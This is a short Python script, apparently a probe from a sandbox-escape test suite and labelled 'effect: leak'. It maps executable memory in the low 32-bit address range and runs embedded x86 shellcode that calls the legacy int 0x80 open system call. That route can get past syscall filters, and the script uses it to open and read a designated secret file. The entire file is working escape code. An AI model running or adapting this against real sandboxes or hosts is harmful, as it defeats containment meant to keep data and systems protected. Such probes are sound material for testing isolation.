# effect: leak
# note: the 32-bit numbers, by int 0x80; x86 only
import ctypes
import mmap
import os


def attempt(probe):
    # mov eax, 5; push rbx; mov ebx, edi; xor ecx, ecx; int 0x80; pop rbx; ret
    code = b"\xb8\x05\x00\x00\x00\x53\x89\xfb\x31\xc9\xcd\x80\x5b\xc3"
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    low = libc.mmap(None, ctypes.c_size_t(4096), 7, 0x62, -1, ctypes.c_long(0))
    path = probe["secret_file"].encode() + b"\0"
    ctypes.memmove(low, code, len(code))
    ctypes.memmove(low + 64, path, len(path))
    made = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_uint)(low)(low + 64)
    return os.read(made, 100)
